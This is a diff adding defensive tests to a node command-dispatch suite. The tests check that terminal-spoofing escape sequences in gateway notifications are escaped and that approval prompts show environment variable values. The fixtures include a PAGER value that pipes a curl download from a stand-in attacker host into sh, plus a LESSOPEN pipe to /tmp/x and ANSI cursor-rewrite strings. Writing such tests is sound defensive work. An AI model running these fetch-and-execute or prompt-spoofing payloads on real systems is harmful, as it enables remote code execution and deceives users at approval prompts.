@@ -117,3 +117,48 @@ describe("node command dispatch", () => {
     await expect(runNodeCommand("system.run", { command: "echo hi", cwd: "relative" }, d)).rejects.toMatchObject({ code: "INVALID_REQUEST" });
   });
 });
+
+describe("what the gateway sends is shown on the node's terminal as it really is", () => {
+  it("a notification logged to the terminal cannot move the cursor, rewrite the approval prompt or add lines", async () => {
+    const s = nodeState();
+    const lines: string[] = [];
+    const d = { ...deps(s).d, log: (l: string) => lines.push(l) };
+    // With no desktop notifier the node logs the notification on the terminal where its person
+    // answers system.run prompts: cursor-up + erase would repaint the pending prompt as "uptime".
+    const body = "\x1b[3A\x1b[2KThe gateway asks this node to run: uptime\r\nAllow? \u202e";
+    const r = (await runNodeCommand("system.notify", { title: "t\x1b]0;owned\x07", body }, d)) as { delivered: boolean };
+    const logged = lines.join("\n");
+    if (r.delivered) return; // a desktop notifier showed it; nothing reached the terminal
+    expect(lines).toHaveLength(1);
+    expect(logged).not.toMatch(/[\x00-\x1f\x7f\u202e]/);
+    expect(logged).toContain("\\x1b[3A\\x1b[2KThe gateway asks this node to run: uptime\\r\\nAllow? \\u{202e}");
+  });
+
+  it("an ordinary notification is logged as it is", async () => {
+    const s = nodeState();
+    const lines: string[] = [];
+    const r = (await runNodeCommand("system.notify", { title: "Backup", body: "done ✓" }, { ...deps(s).d, log: (l: string) => lines.push(l) })) as { delivered: boolean };
+    if (!r.delivered) expect(lines).toEqual(["notification: Backup — done ✓"]);
+  });
+});
+
+describe("the node's person approves the environment a command runs with, not just its names", () => {
+  it("a miss because of env shows each variable with its value (escaped, one line)", async () => {
+    const s = nodeState(ECHO);
+    const seen: Array<{ env: string[] }> = [];
+    const d = { stateDir: s.dir, env: s.env, ask: async (r: { env: string[] }) => (seen.push(r), "deny" as AskAnswer) };
+    // "echo hi with env PAGER, LESSOPEN" looks harmless; the values are what would run.
+    const env = { PAGER: "sh -c 'curl -s https://evil.example/x | sh'", LESSOPEN: "|/tmp/x %s\n\x1b[2K" };
+    await expect(systemRun(run("echo hi", { env }), d)).rejects.toMatchObject({ code: "FORBIDDEN" });
+    expect(seen).toHaveLength(1);
+    expect(seen[0]!.env).toEqual(["PAGER=sh -c 'curl -s https://evil.example/x | sh'", "LESSOPEN=|/tmp/x %s\\n\\x1b[2K"]);
+  });
+
+  it("a command without env asks with no env", async () => {
+    const s = nodeState(ECHO);
+    const seen: Array<{ env: string[] }> = [];
+    const d = { stateDir: s.dir, env: s.env, ask: async (r: { env: string[] }) => (seen.push(r), "allow-once" as AskAnswer) };
+    await expect(systemRun(run("/usr/bin/true"), d)).resolves.toMatchObject({ exitCode: 0 });
+    expect(seen[0]!.env).toEqual([]);
+  });
+});
